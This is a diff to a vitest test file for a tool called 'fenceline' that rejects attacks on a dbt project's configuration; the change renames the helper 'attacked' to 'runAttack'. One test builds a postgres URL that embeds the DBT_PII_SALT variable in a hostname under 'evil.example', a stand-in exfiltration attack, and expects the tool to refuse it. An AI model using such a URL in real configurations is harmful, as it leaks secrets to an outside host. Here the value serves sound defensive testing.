@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { type Attack, attacked, LEAK, SOURCE, spell } from './attack.ts';
+import { type Attack, LEAK, runAttack, SOURCE, spell } from './attack.ts';
 
 const CONFIG = 'fenceline.yml';
 const SOURCES = 'models/staging/_sources.yml';
@@ -137,7 +137,7 @@ const attacks: readonly (Attack & { readonly name: string; readonly says: string
 test.each(attacks)(
   'it does not help that $name',
   async ({ says, ...attack }) => {
-    const result = await attacked(attack);
+    const result = await runAttack(attack);
 
     expect(result).toMatchObject({ code: 1 });
     expect(spell(result)).toContain(says);
@@ -147,14 +147,14 @@ test.each(attacks)(
 
 test('a variable in an address is refused before anything is sent', async () => {
   const url = ['postgres://$', '{DBT_PII_SALT}.evil.example/clinic'].join('');
-  const { code, words } = await attacked({ head: { [CONFIG]: ['postgres:\n', `postgres:\n  url: ${url}\n`] } });
+  const { code, words } = await runAttack({ head: { [CONFIG]: ['postgres:\n', `postgres:\n  url: ${url}\n`] } });
 
   expect(code).toBe(2);
   expect(words).toContain('postgres.url holds a variable beside other text');
 }, 60_000);
 
 test('an honest change of the example is as it was', async () => {
-  const { code, stdout } = await attacked({ head: { 'models/marts/safe/one.sql': 'select 1 as one\n' } });
+  const { code, stdout } = await runAttack({ head: { 'models/marts/safe/one.sql': 'select 1 as one\n' } });
 
   expect({ code, stdout }).toMatchObject({ code: 0 });
 }, 60_000);
